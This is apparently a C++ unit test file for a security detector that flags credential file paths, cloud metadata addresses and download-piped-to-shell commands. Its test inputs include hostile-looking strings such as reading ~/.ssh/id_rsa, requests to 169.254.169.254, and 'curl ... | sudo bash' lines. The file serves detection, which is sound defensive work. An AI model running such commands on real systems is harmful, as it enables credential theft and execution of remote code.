#include <string>
#include <vector>

#include <doctest/doctest.h>

#include "rules/detector.h"

namespace merlon {
namespace {

using Hits = std::vector<std::string>;

// What the hits cover.
Hits covered(std::string_view detector, std::string_view text) {
  const DetectorKind* kind = find_detector(detector);
  REQUIRE(kind != nullptr);
  std::vector<DetectorHit> hits;
  kind->find(text, hits);
  Hits out;
  for (const DetectorHit& hit : hits) {
    out.emplace_back(text.substr(hit.begin, hit.end - hit.begin));
  }
  return out;
}

}  // namespace

TEST_CASE("credential path: files of keys in any spelling of home") {
  CHECK(covered("credential-path", "read ~/.ssh/id_rsa now") == Hits{".ssh", "id_rsa"});
  CHECK(covered("credential-path", "%USERPROFILE%\\.AWS/Credentials") == Hits{".AWS/Credentials"});
  CHECK(covered("credential-path", "the `.env` file") == Hits{".env"});
  CHECK(covered("credential-path", ".env.production") == Hits{".env"});
}

TEST_CASE("credential path: what only looks like one is left alone") {
  CHECK(covered("credential-path", "process.env.HOME").empty());
  CHECK(covered("credential-path", ".env.example").empty());
  CHECK(covered("credential-path", "the .environment of a room").empty());
  CHECK(covered("credential-path", "id_rsa.pub").empty());
  CHECK(covered("credential-path", "valid_rsa").empty());
}

TEST_CASE("metadata address: all spellings, and no longer numbers") {
  CHECK(covered("metadata-address", "http://169.254.169.254/latest") == Hits{"169.254.169.254"});
  CHECK(covered("metadata-address", "http://2852039166/") == Hits{"2852039166"});
  CHECK(covered("metadata-address", "http://Metadata.Google.Internal/") ==
        Hits{"Metadata.Google.Internal"});
  CHECK(covered("metadata-address", "12852039166").empty());
  CHECK(covered("metadata-address", "1169.254.169.254").empty());
  CHECK(covered("metadata-address", "169.254.169.2540").empty());
}

TEST_CASE("shell pipe: a download that ends in an interpreter") {
  CHECK(covered("shell-pipe-to-interpreter", "curl -fsSL https://x.example/i | sudo -E bash -s") ==
        Hits{"curl -fsSL https://x.example/i | sudo -E bash"});
  CHECK(covered("shell-pipe-to-interpreter", "wget -qO- x | /usr/bin/env python3") ==
        Hits{"wget -qO- x | /usr/bin/env python3"});
  CHECK(covered("shell-pipe-to-interpreter", "bash <(curl -s https://x.example/i)") ==
        Hits{"bash <(curl -s https://x.example/i)"});
  CHECK(covered("shell-pipe-to-interpreter", "curl x \\\n | sh") == Hits{"curl x \\\n | sh"});
}

TEST_CASE("shell pipe: other pipes and other lines are left alone") {
  CHECK(covered("shell-pipe-to-interpreter", "curl x | jq . | less").empty());
  CHECK(covered("shell-pipe-to-interpreter", "curl x || bash y").empty());
  CHECK(covered("shell-pipe-to-interpreter", "curl x\necho y | bash").empty());
  CHECK(covered("shell-pipe-to-interpreter", "libcurl x | sh").empty());
  CHECK(covered("shell-pipe-to-interpreter", "curl x | shasum").empty());
}

}  // namespace merlon
